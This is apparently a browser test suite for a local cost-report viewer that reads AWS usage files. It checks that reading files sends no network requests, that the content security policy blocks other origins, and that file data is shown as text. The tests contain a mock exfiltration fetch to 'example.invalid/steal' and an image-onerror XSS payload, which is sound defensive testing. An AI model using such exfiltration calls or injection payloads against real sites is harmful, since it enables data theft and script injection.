// Privacy and safety: no request leaves the page, the security policy holds,
// and text from files is shown as text.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { DEMO, serve, launch, openApp, upload, tableRows, writeCur, scratch } from './support.mjs';

const MONTHS = ['cur-2024-01.parquet', 'cur-2024-02.parquet', 'cur-2024-03.parquet'].map((name) => join(DEMO, name));
let server, browser;

before(async () => { server = await serve(); browser = await launch(); });
after(async () => { await browser?.close(); await server?.close(); });

test('after the first load, reading files makes no request at all', async () => {
  const page = await openApp(browser, server.url);
  const origin = new URL(server.url).origin;
  // The app is loaded when its workers have started (they load their own script and wasm).
  await page.waitForFunction(() => true);
  await page.waitForTimeout(1500);
  const loaded = page.seen.requests.length;
  assert.ok(loaded > 0, 'the page itself was requested');

  assert.equal(await upload(page, MONTHS), 'done');
  assert.equal(await upload(page, [MONTHS[1]]), 'done');
  assert.deepEqual(page.seen.requests.slice(loaded), [], 'no request while reading files');
  for (const url of page.seen.requests) {
    assert.ok(url.startsWith(origin) || url.startsWith('data:') || url.startsWith('blob:'), `same origin only: ${url}`);
  }
});

test('the security policy blocks every other origin', async () => {
  const page = await openApp(browser, server.url);
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  assert.match(policy, /default-src 'none'/);
  assert.match(policy, /connect-src 'self'/);
  assert.doesNotMatch(policy, /'unsafe-inline'|'unsafe-eval'|\*/);
  const outcome = await page.evaluate(async () => {
    try {
      await fetch('http://example.invalid/steal', { method: 'POST', body: 'cost data' });
      return 'sent';
    } catch (error) {
      return `blocked: ${error}`;
    }
  });
  assert.match(outcome, /^blocked/);
  assert.ok(!page.seen.requests.some((url) => url.includes('example.invalid')), 'the request never left');
});

test('service names from a file are shown as text, never run', async () => {
  const dir = await scratch();
  const hostile = '<img src=x onerror="window.pwned=1">';
  const file = await writeCur(join(dir, 'hostile.parquet'), [
    ['Usage', hostile, 12.5],
    ['Usage', 'AmazonS3', 1],
  ]);
  const page = await openApp(browser, server.url);
  let dialogs = 0;
  page.on('dialog', (dialog) => { dialogs += 1; dialog.dismiss(); });
  assert.equal(await upload(page, [file]), 'done');
  const rows = await tableRows(page);
  assert.equal(rows[0].service, hostile);
  const cell = page.locator('[data-testid=costs-table] tbody tr').first().locator('th');
  assert.equal(await cell.textContent(), hostile);
  assert.equal(await page.locator('[data-testid=costs-table] img').count(), 0, 'no element was made from the name');
  await page.getByRole('combobox', { name: 'Service' }).fill('img');
  await page.getByRole('listbox', { name: 'Service' }).getByRole('option').first().waitFor();
  await page.keyboard.press('ArrowDown');
  await page.keyboard.press('Enter');
  assert.equal(await page.getByTestId('detail-service').textContent(), hostile);
  assert.equal(await page.evaluate(() => window.pwned), undefined);
  assert.equal(dialogs, 0);
});
